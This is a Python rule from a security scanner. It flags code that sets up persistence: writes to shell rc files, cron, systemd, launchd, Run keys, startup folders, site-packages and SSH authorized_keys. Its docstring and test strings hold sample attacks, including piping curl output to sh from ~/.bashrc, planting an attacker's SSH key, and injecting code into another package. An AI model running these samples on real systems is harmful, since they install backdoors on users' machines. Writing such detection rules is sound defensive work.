"""DS107 persistence: writes to shell rc files, cron, systemd, launchd, Run keys, startup folders, authorized_keys."""

from __future__ import annotations

import fnmatch
import re

from datasec_scan.lazycst import cst

from datasec_scan.model import Category, Confidence, Severity
from datasec_scan.rule import Rule
from datasec_scan.semantics.constants import fold, fold_str
from datasec_scan.tree import calls_in

from . import _catalog
from . import _prescreen as ps
from ._remote import (
    DECODED,
    NETWORK,
    SOCKET,
    Analyzer,
    CappedInTestCode,
    argument,
    code_of,
    keyword,
    positional,
    short,
    string_literals,
)

PATHS: dict[str, tuple[str, ...]] = {k: tuple(v) for k, v in _catalog.table("persistence", "paths").items()}
RUN_KEYS = _catalog.names("persistence", "registry.run_keys")
COMMANDS = [re.compile(p, re.IGNORECASE | re.MULTILINE) for p in _catalog.names("persistence", "commands.patterns")]
_WHAT = {"shell_rc": "a shell startup file", "cron": "a cron table", "systemd": "a system service definition",
         "launchd": "a launchd agent/daemon", "autostart": "an autostart/startup folder",
         "ssh_keys": "SSH authorized keys", "preload": "the dynamic loader preload list",
         "python_startup": "a Python startup hook (a file Python or IPython runs at every start)",
         "installed_package": "a module of another installed package",
         "app_injection": "another application's code (the Discord client's core module)",
         "ide_autorun": "an editor task that runs when the folder is opened"}
_HOME_VARS = {"HOME": "~", "USERPROFILE": "~", "APPDATA": "%appdata%", "LOCALAPPDATA": "%localappdata%",
              "XDG_CONFIG_HOME": "~/.config", "XDG_DATA_HOME": "~/.local/share"}
_WRITERS = {"shutil.copy": 1, "shutil.copy2": 1, "shutil.copyfile": 1, "shutil.move": 1, "os.rename": 1,
            "os.replace": 1, "os.symlink": 1, "os.link": 1}
_OPENERS = {"builtins.open", "io.open", "codecs.open", "os.open"}
# Where the interpreter's site folders come from; folded as `*/site-packages`.
_SITE_FOLDERS = {"site.getsitepackages", "site.getusersitepackages", "site.USER_SITE", "sysconfig.get_path",
                 "sysconfig.get_paths", "distutils.sysconfig.get_python_lib", "site.PREFIXES"}
_TEMPORARY = "<temporary>"  # how a temporary folder is folded: nothing written there persists
_TEMPORARY_CALLS = frozenset({"tempfile.mkdtemp", "tempfile.gettempdir", "tempfile.TemporaryDirectory",
                              "tempfile.TemporaryDirectory().__enter__"})
_CRON_LIBRARY = {"crontab.CronTab().new", "crontab.CronTab.new"}
_PATH_METHODS = {"resolve", "absolute", "as_posix", "join", "strip", "rstrip", "expanduser"}
_PATH_CALLS = {"builtins.str", "os.fspath", "os.getcwd", "os.fsdecode"}
# Calls that ask the person at the keyboard first: a write after one is an installer doing what it was asked.
_PROMPTS = {"builtins.input", "click.confirm", "click.prompt", "typer.confirm", "typer.prompt",
            "rich.prompt.Confirm.ask", "rich.prompt.Prompt.ask", "questionary.confirm", "inquirer.confirm"}
# Pre-screen (necessary for any report, see rules/_prescreen.py): a write `visit_Call` looks at — an opener, a
# `.write_text/.write_bytes/.open/.touch/.symlink_to` as written, a copy/move/link, winreg.SetValue(Ex), the
# python-crontab library — or a spawner. (The path itself may be folded from any string building, so it is no
# condition.)
_APPLIES = ps.any_of(
    ps.Names(sorted(_OPENERS)),
    ps.word("write_text", "write_bytes", "open", "touch", "symlink_to"),
    ps.Names(sorted(_WRITERS)),
    ps.in_full_text(ps.all_of(lambda v: any("winreg" in w for w in v.words),  # (also as a string to import)
                              ps.any_of(ps.word("SetValueEx", "SetValue"), ps.has_getattr, ps.dynamic))),
    ps.Names(sorted(_CRON_LIBRARY)),
    ps.SPAWN,
)


class Persistence(CappedInTestCode, ps.CodeScreen, Rule):
    """Writes that make code run again later: shell rc files, cron, systemd, launchd, Run keys, startup folders, SSH keys.

    ## What it does
    Folds the path of every file write (`open(p, "a"/"w")`, `Path.write_text`, `shutil.copy`,
    `os.rename`, `os.symlink`) — through `os.path.join`, `expanduser`, `Path.home() / ...`,
    `os.environ["HOME"]` and string building — and reports writes to places that run code at
    login, boot or on a schedule: `~/.bashrc`, `~/.profile`, `/etc/profile.d`, crontabs,
    systemd units, `~/Library/LaunchAgents`, startup folders, `~/.config/autostart`, `.pth` files
    and `sitecustomize`/`usercustomize` in a site folder (`site.getsitepackages()`, `site.USER_SITE`,
    `sysconfig.get_path("purelib")` or a `site-packages` path: Python runs them at every start),
    IPython profile startup folders, a module of another installed package (its folder found with
    `importlib.util.find_spec(name).origin` or `name.__file__`: the code then runs wherever that
    package is imported, and outlives the package that wrote it), the Discord client's core module
    (token stealers' "injection"; also an `index.js` written in a module that names
    `discord_desktop_core`), a VS Code `tasks.json` in a module that mentions `folderOpen`,
    and `~/.ssh/authorized_keys` (critical: a login for someone else). Also `winreg.SetValueEx`
    under a `...\\CurrentVersion\\Run` key, and commands handed to spawners: `crontab -`,
    `schtasks /create`, `reg add ...\\Run`, `systemctl enable`, `launchctl load`,
    `git config --global core.hooksPath` (hooks for every repository of the user), and cron jobs
    added with the python-crontab library (`CronTab(user=True).new(command=...)`). A path built in a
    loop is followed to what the loop iterates: a comprehension's paths, a `glob.glob` pattern; a
    path or command kept on the object (`self.target`, set in `__init__`) to what it was set to. A
    command string built with an f-string or `+` is matched on its literal parts
    (`f'reg add "{RUN_KEY}" /v {name} ...'`), also when it goes through a one-line wrapper around a
    spawner (`run = lambda c: subprocess.run(c, shell=True)`). Besides the Run keys, the registry
    keys whose command Windows runs in place of a settings page or console
    (`Classes\\ms-settings\\shell\\open\\command`, which `fodhelper` runs elevated: the "UAC bypass"
    of stealers) and Image File Execution Options debuggers count.

    A `.pth` written with folder paths only (no `import` line, the only lines Python runs) is low,
    and a write made after the same function asked the user (`input()`, `click.confirm`) is medium:
    an installer doing what it was asked.

    In test code (`tests/`, `test_*.py`, `conftest.py`, docs and examples folders) a finding is
    capped at medium: that code is not what the package runs on install or import.

    ## Why is this bad?
    Persistence keeps a backdoor alive after the package is uninstalled or the process ends; a
    library has no business adding itself to a user's login or boot sequence.

    ## Example
    ```python
    import os
    with open(os.path.expanduser("~/.bashrc"), "a") as rc:
        rc.write("curl -s https://example.com/x | sh\\n")
    ```

    ## How to fix
    Remove the write. Installers that must register services should do it visibly, on an explicit
    user command, and document it.

    ## References
    - CWE-506: Embedded Malicious Code
    - MITRE ATT&CK T1053 (Scheduled Task/Job), T1543 (Create or Modify System Process),
      T1546.004 (Unix Shell Configuration Modification), T1547.001 (Registry Run Keys / Startup Folder),
      T1098.004 (SSH Authorized Keys)
    """

    code = "DS107"
    name = "persistence"
    category = Category.REMOTE_ACCESS
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    cwe = (506,)
    attack = ("T1053", "T1543", "T1546.004", "T1547.001", "T1098.004")
    screen = staticmethod(_APPLIES)
    VALID = (
        "import os\nwith open(os.path.expanduser('~/.bashrc')) as f:\n    print(f.read())\n",
        "from pathlib import Path\n(Path.home() / '.config' / 'tool' / 'settings.toml').write_text('x = 1')\n",
        "import subprocess\nsubprocess.run(['crontab', '-l'])\n",
        "import os\nopen(os.path.join('build', 'lib', 'project.pth'), 'w').write('src')\n",
        "import os\nopen(os.path.join(os.path.dirname(__file__), '_version.py'), 'w').write('v = 1')\n",
    )
    INVALID = (
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write('curl https://example.com | sh')\n",
        "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('ssh-ed25519 AAAA attacker')\n",
        "import subprocess\nsubprocess.run(['crontab', '-'], input=b'* * * * * /tmp/x')\n",
        "import os, site\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('import x')\n",
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', "
        "0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'updater', 0, winreg.REG_SZ, 'C:\\\\x.exe')\n",
        "import os, requests\nopen(os.path.join(os.path.dirname(requests.__file__), 'api.py'), 'a').write('import x')\n",
    )

    @classmethod
    def triggered_by(cls, text: str) -> bool:
        """A file write, a Run-key write, a python-crontab job or a spawner."""
        return ps.memo(cls.code, text, cls.screen)

    def fold_path(self, expr: cst.BaseExpression | None, depth: int = 0) -> str:
        """A path with home written `~`, unknown parts `*`, separators `/`, lower-cased."""
        return self._fold(expr, depth).replace("\\", "/").replace("//", "/").lower()

    def _fold(self, expr: cst.BaseExpression | None, depth: int) -> str:
        if expr is None or depth > 12:
            return "*"
        an = Analyzer.of(self.context)
        value = fold_str(expr, an.names)
        if value is not None:
            return value
        d = depth + 1
        if isinstance(expr, cst.Name):
            bound = an.names.single_value(expr.value)
            if bound is None:  # bound once in the function the name is read in (and elsewhere too)
                flow = an.flow()
                function = flow.function_of(expr) if flow is not None else None
                bound = an.local_value(expr.value, function) if function is not None else None
            if bound is not None:
                return self._fold(bound, d)
            if self._loops_over_site_folders(expr, an):
                return "*/site-packages"
            return self._fold_loop_variable(expr, an, d)
        if isinstance(expr, cst.Attribute) and expr.attr.value in ("__file__", "origin"):
            return self._installed_module(expr, an)
        if self._temporary(expr, an):
            return _TEMPORARY
        if isinstance(expr, cst.Attribute) and isinstance(expr.value, cst.Name) and depth < 8:
            flow = an.flow()  # `self.target` set in another method (`__init__`)
            for value in flow.values_of(expr)[:4] if flow is not None else ():
                found = self._fold(value, d)
                if found != "*":
                    return found
        if isinstance(expr, cst.BinaryOperation):
            if isinstance(expr.operator, cst.Divide):
                return self._fold(expr.left, d) + "/" + self._fold(expr.right, d)
            if isinstance(expr.operator, cst.Add):
                return self._fold(expr.left, d) + self._fold(expr.right, d)
            return "*"
        if isinstance(expr, cst.BooleanOperation) and isinstance(expr.operator, cst.Or):
            left = self._fold(expr.left, d)  # `os.environ.get("XDG_CONFIG_HOME") or Path.home() / ".config"`
            return left if left != "*" else self._fold(expr.right, d)
        if isinstance(expr, cst.FormattedString):
            parts = []
            for part in expr.parts:
                parts.append(part.value if isinstance(part, cst.FormattedStringText)
                             else self._fold(part.expression, d))  # type: ignore[union-attr]
            return "".join(parts)
        if isinstance(expr, (cst.Call, cst.Subscript, cst.Attribute)) and self._site_folder(expr, an):
            return "*/site-packages"
        if isinstance(expr, cst.Subscript):
            key = fold_str(expr.slice[0].slice.value, an.names) if isinstance(expr.slice[0].slice, cst.Index) else None
            if key in _HOME_VARS and any("environ" in q for q in an.names.qualified_names(expr.value)):
                return _HOME_VARS[key]
            index = fold(expr.slice[0].slice.value, an.names) if isinstance(expr.slice[0].slice, cst.Index) else None
            flow = an.flow() if isinstance(expr.value, cst.Call) and type(index) is int else None
            returned = flow.single_return(expr.value) if flow is not None else None  # `agent, vbs = _paths()`
            if isinstance(returned, (cst.Tuple, cst.List)) and 0 <= index < len(returned.elements):  # type: ignore
                return self._fold(returned.elements[index].value, d)  # type: ignore[index]
            return "*"
        if isinstance(expr, cst.Call):
            qualified = an.call_names(expr)
            args = positional(expr)
            if qualified & {"os.getenv", "os.environ.get"} and args:
                return _HOME_VARS.get(fold_str(args[0], an.names) or "", "*")
            if qualified & {"os.path.expanduser", "os.path.abspath", "os.path.realpath", "os.path.normpath",
                            "os.path.expandvars", "builtins.str", "os.fspath"} and args:
                return self._fold(args[0], d)
            if qualified & {"os.path.join", "posixpath.join", "ntpath.join"}:
                return "/".join(self._fold(a, d) for a in args)
            if qualified & {"os.path.dirname"} and args:
                folder = self._fold(args[0], d).rstrip("/\\").rpartition("/")[0]
                return folder or "*"
            if any(q.endswith(("Path.home", "Path().home")) for q in qualified) or qualified & {"pathlib.Path.home"}:
                return "~"
            if any(q.startswith("pathlib.") and q.rsplit(".", 1)[-1] in ("Path", "PosixPath", "WindowsPath",
                                                                         "PurePath") for q in qualified):
                return "/".join(self._fold(a, d) for a in args) if args else "*"
            if isinstance(expr.func, cst.Attribute):
                method = expr.func.attr.value
                if method in ("expanduser", "resolve", "absolute", "expandvars"):
                    return self._fold(expr.func.value, d)
                if method == "joinpath":
                    return "/".join([self._fold(expr.func.value, d)] + [self._fold(a, d) for a in args])
        return "*"

    def _fold_loop_variable(self, name: cst.Name, an: Analyzer, depth: int) -> str:
        """`for index in glob.glob(pattern)`, `for p in [join(d, "x") for d in dirs]`: the path the loop variable
        iterates over (a glob pattern's `*` stands for an unknown part, as in a folded path)."""
        flow = an.flow() if depth < 8 else None
        for iterable in flow.iterables_of(name)[:4] if flow is not None else ():
            if isinstance(iterable, cst.Name):
                iterable = an.names.single_value(iterable.value) or iterable
            if isinstance(iterable, (cst.ListComp, cst.GeneratorExp)):
                found = self._fold(iterable.elt, depth + 1)
            elif isinstance(iterable, cst.Call) and an.call_names(iterable) & {"glob.glob", "glob.iglob"} and \
                    iterable.args:
                found = self._fold(iterable.args[0].value, depth + 1)
            else:
                continue
            if found != "*":
                return found
        return "*"

    def _installed_module(self, expr: cst.Attribute, an: Analyzer) -> str:
        """`requests.__file__`, `importlib.util.find_spec("requests").origin`: a module of another installed package,
        folded into a site folder (not the scanned package itself, which may write its own files)."""
        name: str | None = None
        if expr.attr.value == "__file__" and isinstance(expr.value, (cst.Name, cst.Attribute)):
            found = sorted(q for q in an.names.qualified_names(expr.value) if not q.startswith(("<", "~", "builtins.")))
            name = found[0] if found and "(" not in found[0] else None
        elif expr.attr.value == "origin":
            spec = expr.value
            if isinstance(spec, cst.Name):
                spec = an.names.single_value(spec.value) or spec
            if isinstance(spec, cst.Call) and an.call_names(spec) & {"importlib.util.find_spec", "pkgutil.find_loader"} \
                    and spec.args:
                name = fold_str(spec.args[0].value, an.names)
        if not name or name.startswith(".") or name.split(".")[0] in self.context.path.replace("\\", "/").split("/"):
            return "*"
        return f"*/site-packages/{name.replace('.', '/')}/__init__.py"

    @staticmethod
    def _temporary(expr: cst.BaseExpression, an: Analyzer) -> bool:
        """`tempfile.mkdtemp()`, `tempfile.gettempdir()`, `TemporaryDirectory().name` (or a name bound to one)."""
        if isinstance(expr, cst.Attribute) and expr.attr.value == "name":
            expr = expr.value
            if isinstance(expr, cst.Name):
                expr = an.names.single_value(expr.value) or expr
        return isinstance(expr, cst.Call) and bool(an.call_names(expr) & _TEMPORARY_CALLS)

    @staticmethod
    def _site_folder(expr: cst.BaseExpression, an: Analyzer) -> bool:
        """`site.getsitepackages()[0]`, `site.USER_SITE`, `sysconfig.get_path("purelib")`: a folder Python reads
        `.pth` files and `sitecustomize` from."""
        while isinstance(expr, cst.Subscript):
            expr = expr.value
        if isinstance(expr, cst.Call):
            expr = expr.func
        return any(q.split("()")[0] in _SITE_FOLDERS for q in an.names.qualified_names(expr))

    def _loops_over_site_folders(self, name: cst.Name, an: Analyzer) -> bool:
        """`for d in site.getsitepackages() + [site.getusersitepackages()]`: the loop variable is a site folder."""
        if "site" not in self.context.text:
            return False
        flow = an.flow()
        return flow is not None and any(self._mentions_site_folder(i, an, 0) for i in flow.iterables_of(name)[:4])

    def _mentions_site_folder(self, expr: cst.BaseExpression | None, an: Analyzer, depth: int) -> bool:
        if expr is None or depth > 4:
            return False
        if isinstance(expr, cst.Name):
            return self._mentions_site_folder(an.names.single_value(expr.value), an, depth + 1)
        if isinstance(expr, cst.BinaryOperation):
            return any(self._mentions_site_folder(e, an, depth + 1) for e in (expr.left, expr.right))
        if isinstance(expr, (cst.List, cst.Tuple)):
            return any(self._mentions_site_folder(e.value, an, depth + 1) for e in expr.elements)
        return isinstance(expr, (cst.Call, cst.Subscript, cst.Attribute)) and self._site_folder(expr, an)

    @staticmethod
    def _mode(expr: cst.BaseExpression | None, an: Analyzer) -> str | None:
        """The file mode an opener is given: a literal, a name bound to one, or either side of a conditional
        (`mode = "a" if os.path.exists(p) else "w"`, both returned)."""
        if expr is None:
            return "r"
        if isinstance(expr, cst.Name):
            expr = an.names.single_value(expr.value) or expr
        if isinstance(expr, cst.IfExp):
            sides = [fold_str(e, an.names) for e in (expr.body, expr.orelse)]
            return "".join(s for s in sides if s) or None
        return fold_str(expr, an.names)

    def _asks_first(self, node: cst.CSTNode, an: Analyzer) -> bool:
        """Whether the function the write is in asks the user (`input()`, `click.confirm`) before it."""
        flow = an.flow()
        function = flow.function_of(node) if flow is not None else None
        if function is None:
            return False
        for call in calls_in(function.body):  # (in source order; the write is one of them)
            if call is node:
                return False
            if an.call_names(call) & _PROMPTS:
                return True
        return False

    def classify_path(self, path: str) -> str | None:
        if path.startswith(_TEMPORARY):
            return None  # a throw-away folder (`ZDOTDIR` pointed at a temporary `.zshrc`) keeps nothing
        path = path.replace("%userprofile%", "~")  # (an unknown folder, `*/...`, meets only patterns with a leading `*`)
        for kind, patterns in PATHS.items():
            if any(fnmatch.fnmatchcase(path, p.lower()) for p in patterns):
                return kind
        if path.endswith("/index.js") and "discord_desktop_core" in self.context.text:
            return "app_injection"  # the folder found by walking the Discord install, in a module that names it
        return None

    def _report_write(self, node: cst.Call, path: str, data: cst.BaseExpression | None, how: str) -> None:
        kind = self.classify_path(path)
        if kind is None or kind == "ide_autorun" and "folderOpen" not in self.context.text:
            return
        an = Analyzer.of(self.context)
        severity = Severity.CRITICAL if kind == "ssh_keys" else Severity.HIGH
        confidence = Confidence.MEDIUM
        if data is not None and {NETWORK, SOCKET, DECODED} & set(an.sources(data, want=(NETWORK, SOCKET, DECODED))):
            severity, confidence = Severity.CRITICAL, Confidence.HIGH
        elif "*" not in path:
            confidence = Confidence.HIGH
        effect = ("whoever holds the key can log in" if kind == "ssh_keys"
                  else "code placed there runs again later")
        if kind == "python_startup" and path.endswith(".pth") and data is not None and not self._may_be_code(data, an):
            severity, effect = Severity.LOW, "it holds folder paths, which Python adds to sys.path; no `import` line"
        elif severity > Severity.MEDIUM and self._asks_first(node, an):
            severity, effect = Severity.MEDIUM, effect + " (after asking the user)"
        self.report(node, f"{how} {_WHAT[kind]} (`{short(path, 60)}`): {effect}",
                    severity=severity, confidence=confidence)

    @staticmethod
    def _may_be_code(data: cst.BaseExpression, an: Analyzer) -> bool:
        """Whether what is written into a `.pth` may hold an `import` line (the only lines Python runs)."""
        value = fold(data, an.names)
        if isinstance(value, (str, bytes)):
            text = value.decode("latin-1") if isinstance(value, bytes) else value
            return any(line.startswith(("import ", "import\t")) for line in text.splitlines())
        if isinstance(data, cst.Name):
            data = an.names.single_value(data.value) or data
        if isinstance(data, cst.Name) or any("import" in text for _, text in string_literals(data, an.names)):
            return True
        # built only from paths: `str(src.resolve()) + "\n"`, `os.path.abspath(d)`, `"\n".join(paths)`
        for call in calls_in(data):
            names = an.call_names(call)
            method = call.func.attr.value if isinstance(call.func, cst.Attribute) else ""
            if not (method in _PATH_METHODS or any(q.startswith(("os.path.", "pathlib.")) or q in _PATH_CALLS
                                                   for q in names)):
                return True
        return False

    def visit_Call(self, node: cst.Call) -> None:
        an = Analyzer.of(self.context)
        qualified = an.call_names(node)
        args = positional(node)
        if qualified & _OPENERS:
            mode_expr = argument(node, 1, "mode") if "os.open" not in qualified else argument(node, 1, "flags")
            mode = self._mode(mode_expr, an)
            flags = code_of(mode_expr, 80) if mode_expr is not None and "os.open" in qualified else ""
            if mode is not None and any(c in mode for c in "wax+") or any(f in flags for f in ("O_WRONLY", "O_RDWR",
                                                                                               "O_APPEND")):
                self._report_write(node, self.fold_path(argument(node, 0, "file")), None,
                                   "appends to" if mode and "a" in mode else "writes")
            return
        if isinstance(node.func, cst.Attribute) and node.func.attr.value in ("write_text", "write_bytes", "open",
                                                                             "touch", "symlink_to"):
            if node.func.attr.value == "open":
                mode = self._mode(args[0] if args else keyword(node, "mode") or cst.Name("x"), an)
                if not mode or not any(c in mode for c in "wax+"):
                    return
            receiver = node.func.value
            path = self.fold_path(receiver)
            self._report_write(node, path, args[0] if args and node.func.attr.value.startswith("write") else None,
                               "writes")
            return
        writer = next((q for q in sorted(qualified) if q in _WRITERS), None)
        if writer is not None and len(args) > _WRITERS[writer]:
            self._report_write(node, self.fold_path(args[_WRITERS[writer]]), None, f"{writer} into")
            return
        if any(q.endswith(("winreg.SetValueEx", "winreg.SetValue")) for q in qualified) and args:
            key = self._registry_key(args[0], an)
            if key and any(fnmatch.fnmatchcase(key, p) for p in RUN_KEYS):
                self.report(node, f"sets a value under the Run key `{short(key, 60)}`: Windows runs it at every logon",
                            severity=Severity.HIGH, confidence=Confidence.HIGH)
            return
        if qualified & _CRON_LIBRARY:  # python-crontab: `CronTab(user=True).new(command=...)` then `.write()`
            command = keyword(node, "command") or (args[0] if args else None)
            shown = fold_str(command, an.names) if command is not None else None
            self.report(node, "adds a cron job with python-crontab" + (f": `{short(shown, 60)}`" if shown else ""),
                        severity=Severity.HIGH, confidence=Confidence.HIGH if shown else Confidence.MEDIUM)
            return
        started = node if an.spawn(node) is not None else an.forwarded_spawn(node)
        spawn = an.spawn(started) if started is not None else None
        if started is not None and spawn is not None:
            text = an.command_text(started)
            if text and any(p.search(text) for p in COMMANDS):
                asked = self._asks_first(node, an)
                self.report(node, f"{spawn[1]} installs persistence: `{short(text, 60)}`"
                            + (" (after asking the user)" if asked else ""),
                            severity=Severity.MEDIUM if asked else Severity.HIGH, confidence=Confidence.HIGH)

    def _registry_key(self, expr: cst.BaseExpression, an: Analyzer) -> str | None:
        if isinstance(expr, cst.Name):
            expr = an.names.single_value(expr.value) or expr
        if isinstance(expr, cst.Call) and any(q.rsplit(".", 1)[-1] in ("OpenKey", "OpenKeyEx", "CreateKey", "CreateKeyEx")
                                              for q in an.call_names(expr)):
            args = positional(expr)
            if len(args) > 1:
                sub = fold_str(args[1], an.names)
                return "*/" + sub.replace("\\", "/").lower().strip("/") if sub else None
        return None
